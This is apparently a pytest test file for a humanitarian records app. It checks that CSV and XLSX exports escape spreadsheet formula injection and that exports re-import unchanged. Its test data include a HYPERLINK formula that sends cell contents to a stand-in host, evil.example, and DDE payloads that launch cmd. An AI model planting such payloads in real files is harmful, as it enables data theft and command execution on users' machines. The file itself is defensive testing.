"""No export of the client runs a cell as a formula (OWASP "CSV injection"): text that starts
with = + - @, a tab, a carriage return or a line feed gets a leading single quote in every CSV
and XLSX file, XLSX text is always a text cell, and our own importers take exactly that quote
off again, so an export re-imports unchanged. JSON is data, not a sheet: it keeps the text."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from uuid import uuid4

import openpyxl
import pytest

from desktop.domain.records import normalise
from desktop.domain.spreadsheet import inert_text, restore_text
from desktop.interchange import read_iom_file, write_iom_csv, write_records_json, write_xlsx
from desktop.interchange.case_import import import_case_file
from desktop.interchange.case_template import BY_PATH
from desktop.storage.case_import_store import CaseImportStore
from desktop.storage.records import RecordRepository

LINK = '=HYPERLINK("http://evil.example/?"&A2,"Open map")'
DANGEROUS = [
    LINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
# Text a person could type that, once imported, starts with a formula character (the
# domain trims spaces, so tab, CR and LF never reach a stored record).
TYPED = [LINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
UPDATED = datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)


def envelope(kind, data):
    return {"id": uuid4(), "kind": kind, "rev": 3, "owner_country": "SN",
            "updated_at": UPDATED, "deleted": False, "data": data}  # fmt: skip


def incident(text: str, n: int = 1) -> dict:
    return {
        "incident_id": f"T-{n:05d}",
        "incident_date": "2025-06-01",
        "location": text,
        "source": text,
        "cause_of_death_reported": text,
        "number_dead": 2,
    }


def case(text: str, n: int = 1) -> dict:
    return {
        "reference": f"SN-2026-{n:04d}",
        "person": {"family_name": text, "given_names": "Awa", "other_spellings": [text]},
        "last_contact": {"place": text},
        "enquirer": {"contact": text},
        "notes": text,
    }


def csv_cells(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def assert_inert_xlsx(path, texts) -> None:
    """Each cell holding one of `texts` is a text cell that starts with the quote (XML reads a
    carriage return back as a line feed)."""
    texts = {text.replace("\r", "\n") for text in texts}
    book = openpyxl.load_workbook(path)
    found = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip("'") in texts:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert cell.value == "'" + cell.value[1:] and cell.value[1:] in texts
                    found += 1
    assert found, "the dangerous text was not written at all"


@pytest.mark.parametrize("text", DANGEROUS)
def test_the_one_escape_puts_a_quote_before_each_formula_start_and_restores_it(text):
    assert inert_text(text) == "'" + text
    assert restore_text(inert_text(text)) == text


@pytest.mark.parametrize(
    "text", ["Nouadhibou", "-17.05", "+221", "-16.59024098, 27.84315244", "'quoted", "", "a=b"]
)
def test_plain_text_and_numbers_written_as_text_are_left_alone(text):
    assert inert_text(text) == text
    assert restore_text(text) == text


@pytest.mark.parametrize("text", ["'=1+1", "''-x", "'@a"])
def test_text_that_already_starts_with_a_quote_survives_the_round_trip(text):
    assert restore_text(inert_text(text)) == text


@pytest.mark.parametrize("text", DANGEROUS)
def test_iom_csv_cells_never_start_a_formula(tmp_path, text):
    out = tmp_path / "incidents.csv"
    write_iom_csv(out, [incident(text)])
    header, row = csv_cells(out)
    cells = dict(zip(header, row, strict=True))
    for column in ("Location of death", "Information Source", "Cause of Death (reported)"):
        assert cells[column] == "'" + text, column
    raw = out.read_text(encoding="utf-8")
    assert f",{text[0]}" not in raw.replace(f",\"'{text}", "")  # no cell opens with it raw


def test_iom_csv_keeps_negative_coordinates_as_iom_writes_them(tmp_path):
    out = tmp_path / "incidents.csv"
    write_iom_csv(out, [{**incident("Off Nouadhibou"), "latitude": -16.5, "longitude": 27.8}])
    header, row = csv_cells(out)
    assert dict(zip(header, row, strict=True))["Coordinates"] == "-16.5, 27.8"


@pytest.mark.parametrize("text", TYPED)
def test_iom_csv_export_re_imports_exactly(tmp_path, text):
    data = normalise("incident", incident(text))
    out = tmp_path / "incidents.csv"
    write_iom_csv(out, [data])
    [row] = list(read_iom_file(out))
    assert row.ok, row.reason
    assert (row.data["location"], row.data["source"]) == (text, text)
    assert row.data["cause_of_death_reported"] == text


@pytest.mark.parametrize("kind", ["incident", "missing_case"])
@pytest.mark.parametrize("text", DANGEROUS)
def test_xlsx_text_is_a_text_cell_with_the_quote(tmp_path, kind, text):
    data = incident(text) if kind == "incident" else case(text)
    out = tmp_path / f"{kind}.xlsx"
    write_xlsx(out, kind, [envelope(kind, data)], include_personal=True)
    assert_inert_xlsx(out, {text, f"{text}; {text}"})


@pytest.mark.parametrize("text", DANGEROUS)
def test_country_report_xlsx_answers_and_initiatives_are_inert(tmp_path, text):
    data = {
        "campaign_id": str(uuid4()),
        "country": "SN",
        "answers": {"general.institution": text},
        "initiatives": [{"type": "policy", "title": text, "domains": [1]}],
    }
    out = tmp_path / "reports.xlsx"
    write_xlsx(out, "country_report", [envelope("country_report", data)])
    book = openpyxl.load_workbook(out)
    header = [c.value for c in book.worksheets[0][1]]
    answer = book.worksheets[0].cell(row=2, column=header.index("answers.general.institution") + 1)
    assert (answer.data_type, answer.value) == ("s", "'" + text.replace("\r", "\n"))
    initiatives = book.worksheets[0].cell(row=2, column=header.index("initiatives") + 1)
    assert initiatives.data_type == "s" and not initiatives.value.startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("text", TYPED)
def test_case_xlsx_export_re_imports_exactly(tmp_path, db, text):
    repo = RecordRepository(db)
    data = normalise("missing_case", case(text))
    out = tmp_path / "cases.xlsx"
    write_xlsx(out, "missing_case", [envelope("missing_case", data)], include_personal=True)
    book = openpyxl.load_workbook(out)
    header = [c.value for c in book.worksheets[0][1]]
    column = header.index(BY_PATH["person.family_name"].en) + 1
    family = book.worksheets[0].cell(row=2, column=column)
    assert (family.data_type, family.value) == ("s", "'" + text)

    summary = import_case_file(out, CaseImportStore(repo), owner_country="SN")
    assert summary.added == 1 and not summary.rejected, summary.rejected
    [stored] = repo.envelopes("missing_case")
    person = stored["data"]["person"]
    assert (person["family_name"], person["other_spellings"]) == (text, [text])
    assert stored["data"]["notes"] == text
    assert stored["data"]["last_contact"]["place"] == text


@pytest.mark.parametrize("text", TYPED)
def test_case_csv_with_escaped_cells_imports_the_text(tmp_path, db, text):
    repo = RecordRepository(db)
    path = tmp_path / "cases.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["Reference", "Family name", "Notes"])
        writer.writerow(["SN-2026-0001", inert_text(text), inert_text(text)])
    summary = import_case_file(path, CaseImportStore(repo), owner_country="SN")
    assert summary.added == 1 and not summary.rejected
    [stored] = repo.envelopes("missing_case")
    assert stored["data"]["person"]["family_name"] == text and stored["data"]["notes"] == text


@pytest.mark.parametrize("text", DANGEROUS)
def test_json_export_keeps_the_text_as_it_is(tmp_path, text):
    """JSON is read by programs, never run by a spreadsheet: it needs no escape."""
    out = tmp_path / "incidents.json"
    write_records_json(out, [envelope("incident", incident(text))])
    assert json.loads(out.read_text(encoding="utf-8"))[0]["data"]["location"] == text
